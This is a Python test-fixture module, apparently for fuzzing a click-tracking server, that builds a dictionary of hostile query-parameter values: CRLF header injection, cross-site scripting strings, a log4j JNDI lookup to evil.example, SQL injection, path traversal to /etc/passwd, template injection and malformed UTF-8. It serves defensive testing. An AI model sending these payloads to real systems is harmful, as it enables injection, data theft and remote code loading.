"""Hostile values of parameters as data: each as it stands in a query string, that is, percent-encoded or as raw bytes.

None contains `&`, `#` or a space, which would end the value on its way. `HEADER_SAFE` are those that a server lets
through as a header.
"""

from __future__ import annotations

from urllib.parse import quote

from hostile_urls import HOSTILE_URLS

_LONG = 64 * 1024
_TEXTS = {
    "crlf-header": "a\r\nSet-Cookie: x=y",
    "crlf-location": "a\r\nLocation: https://evil.example/",
    "crlf-body": "a\r\n\r\n<script>alert(1)</script>",
    "lf-header": "a\nX-Waypost-Click-Id: forged",
    "cr-header": "a\rX: y",
    "crlf-in-letters-that-end-in-its-bytes": "\u560d\u560a",
    "next-line": "a\x85b",
    "line-separator": "a\u2028b",
    "paragraph-separator": "a\u2029b",
    "right-to-left-override": "\u202egnp.exe",
    "right-to-left-isolate": "\u2067abc\u2069",
    "left-to-right-mark": "a\u200eb",
    "arabic-and-hebrew": "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd",
    "zero-width": "a\u200b\u200c\u200d\u2060b",
    "byte-order-mark": "\ufeffa",
    "soft-hyphen": "pay\u00adpal",
    "combining-marks": "a" + "\u0301\u0327\u0489" * 100,
    "emoji": "\U0001f600\U0001f4a9",
    "emoji-family": "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "flag": "\U0001f1e9\U0001f1ea",
    "keycap": "1\ufe0f\u20e3",
    "tag-characters": "\U000e0041\U000e007f",
    "fullwidth": "\uff0f\uff0f\uff45\uff56\uff49\uff4c\uff1c\uff1e",
    "fraction-slash": "\u2044\u2215\u29f8",
    "private-use": "\ue000\U000f0000\U0010fffd",
    "noncharacter": "\ufffe\uffff\U0010ffff",
    "replacement-character": "\ufffd",
    "script": "<script>alert(1)</script>",
    "script-end": "</script><script>alert(1)//",
    "script-end-in-capitals": "</SCRIPT ><SCRIPT>alert(1)</SCRIPT>",
    "comment": "<!--<script>",
    "comment-end": "--></script>",
    "cdata": "]]><![CDATA[",
    "attribute": '" onmouseover=alert(1) x="',
    "attribute-in-single-quotes": "' onerror='alert(1)",
    "string-end": '";alert(1);//',
    "string-end-in-single-quotes": "';alert(1);//",
    "template-literal": "`${alert(1)}`",
    "escape-of-javascript": "\\u003cscript\\u003e\\x3c",
    "backslash-at-the-end": "a\\",
    "noscript-end": "</noscript><img src=x onerror=alert(1)>",
    "meta-refresh": "0;url=https://evil.example/",
    "html-entity": "&lt;script&gt;&#60;&amp",
    "macro": "{click_id}",
    "macro-of-a-parameter": "{sub1}{sub1}{x}",
    "raw-macro": "{url:raw}",
    "format-string": "%s%n%(x)s{0}{0.__class__}",
    "braces": "{}{{}}{",
    "template-injection": "{{7*7}}${7*7}#{7*7}<%=7*7%>",
    "log4j": "${jndi:ldap://evil.example/a}",
    "sql": "'; drop table clicks; --",
    "copy-escapes": "\\N\t\\.\n",
    "path-traversal": "../../../../etc/passwd",
    "query-of-its-own": "a&b=c;d=e?f=g#h",
    "userinfo": "a@evil.example:80",
    "number-that-is-none": "NaN",
    "long-number": "9" * 400,
    "white-space": " \t\u00a0\u3000 ",
    "long": "a" * _LONG,
    "long-of-emoji": "\U0001f4a9" * (_LONG // 4),
    "long-of-percent-signs": "%" * _LONG,
    "long-of-quotes": "\"'<>" * (_LONG // 4),
}
_RAW = {
    "empty": b"",
    "plus": b"+++",
    "escaped-plus": b"%2B",
    "percent": b"%",
    "percent-digit": b"%2",
    "percent-nonsense": b"%zz%G0",
    "percent-percent": b"%25%32%35",
    "percent-twice": b"%250d%250a",
    "percent-unicode": b"%u000d%u000a",
    "capital-and-small-escapes": b"%0D%0a%c3%A9",
    "raw-latin-1": b"\xe9\xff\xfe",
    "raw-utf8": "\u00e9\u20ac\U0001f600".encode(),
    "raw-controls": bytes(range(1, 32)) + b"\x7f",
    "raw-nul": b"a\0b",
    "raw-quotes": b"\"'`\\<>|^",
    "raw-javascript": b"javascript:alert(1)",
    "raw-other-host": b"//evil.example/",
    "equal-signs": b"=a=b==",
    "semicolon": b"a;x=b",
    "lone-continuation": b"%80%bf",
    "cut-two-bytes": b"%c3",
    "cut-three-bytes": b"%e2%82",
    "cut-four-bytes": b"%f0%9f%98",
    "overlong-slash": b"%c0%af",
    "overlong-nul": b"%c0%80",
    "overlong-in-three": b"%e0%80%af",
    "surrogate": b"%ed%a0%80",
    "surrogate-pair": b"%ed%a0%bd%ed%b8%80",
    "beyond-unicode": b"%f4%90%80%80%f8%88%80%80%80",
    "byte-order-mark-of-utf16": b"%ff%fe%3c%00",
    "utf7": b"%2BADw-script%2BAD4-",
    "invalid-and-valid": b"%ffa%fe%c3%a9%c3",
    "long-of-escapes": b"%00" * (_LONG // 3),
    "long-of-invalid-bytes": b"%ff" * (_LONG // 3),
    "long-of-raw-bytes": b"\xff" * _LONG,
}
HOSTILE_VALUES: dict[str, bytes] = {
    **{f"control-{number:02x}": b"a%%%02xb" % number for number in (*range(32), 127)},
    **{name: quote(text, safe="").encode() for name, text in _TEXTS.items()},
    **{f"url-{number}": quote(url, safe="").encode() for number, url in enumerate(HOSTILE_URLS) if url},
    **_RAW,
}
# For the real server: one of each kind, as long as a request line may be.
OVER_THE_WIRE = {
    name: value
    for name, value in HOSTILE_VALUES.items()
    if len(value) <= 3000 and not name.startswith(("control-", "url-")) and name not in ("raw-controls", "raw-nul")
}
